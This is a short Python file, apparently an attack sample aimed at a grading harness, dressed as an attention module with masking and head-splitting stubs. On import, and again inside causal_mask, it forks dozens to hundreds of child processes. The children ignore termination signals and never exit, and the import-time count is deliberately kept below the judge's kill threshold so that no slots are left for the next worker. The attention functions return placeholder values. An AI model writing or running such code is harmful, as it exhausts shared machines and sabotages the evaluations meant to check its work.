"""Forks at import as many processes as it may have, and keeps them, so that none would be left for the next worker.

checks: test_three_tokens_see_themselves_and_what_came_before test_the_mask_fits_every_length test_true_in_the_mask_means_may_look test_every_head_has_its_piece_of_every_token
seconds: 4
outcomes: failed crashed
"""

import os
import signal
import sys

import torch

if "inside.session" not in sys.modules:
    raise SystemExit("this attack runs in a worker only")


def fill(most):
    for _ in range(most):
        try:
            child = os.fork()
        except OSError:
            return
        if child == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            while True:
                signal.pause()


fill(55)  # below what the judge ends it for


def causal_mask(seq, device=None):
    fill(200)
    return torch.zeros(seq, seq, dtype=torch.bool)


def scaled_dot_product_attention(query, *rest):
    return query


split_heads = scaled_dot_product_attention
